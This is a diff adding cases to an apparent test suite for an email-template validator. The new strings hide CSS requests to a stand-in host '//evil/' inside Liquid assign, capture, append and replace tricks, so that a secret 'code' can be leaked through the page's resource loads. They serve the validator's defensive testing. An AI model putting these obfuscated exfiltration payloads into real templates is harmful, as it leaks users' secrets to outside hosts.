@@ -276,6 +276,17 @@ HTML = [
         "{% if code > '5' %}Some lines.{% endif %}"
         "<div style='content-visibility:auto'><p style='background:url(//evil/)'>x</p></div>"
     ),
+    *(
+        f"{made}<ul style='{shown}'>{{% if code > '5' %}}<li>x</li>{{% endif %}}</ul>"
+        for made, shown in (
+            ("", "{{ 'list-style:url(' | append: '//evil/)' }}"),
+            ("", "list-style:{{ 'url(' | append: '//evil/)' }}"),
+            ("{% assign s = 'list-style:url(//evil/)' %}", "{{ s }}"),
+            ("{% capture s %}list-style:url(//evil/){% endcapture %}", "{{ s }}"),
+            ("", "list-style:{{ order | replace: '1', 'url(//evil/)' }}"),
+            ("", "{{ 'list-style:u' }}{{ 'rl(//evil/)' }}"),
+        )
+    ),
     "<p style='background:url(a);cursor:url(//evil/)'>{{ code }}</p>",
     "<picture>{% if code > '5' %}<source srcset='//evil/'>{% endif %}<img src='//e/1'></picture>",
     "<picture><source srcset='//evil/{{ code }}'><img src='//evil/1'></picture>",
@@ -495,6 +506,10 @@ def test_secret_in_text_is_accepted(flow: str, name: str) -> None:
             ),
         ),
         ("email_html", "<p class='{% if code %}new{% endif %}'>{{ code }}</p>"),
+        (
+            "email_html",
+            "<p class='{{ order | append: 'x' }}' style='color:{{ order }}'>{{ code }}</p>",
+        ),
         (
             "email_html",
             "{% for row in rows %}<a href='/o/{{ row.id }}'>{{ row.pin }}</a> {% endfor %}",
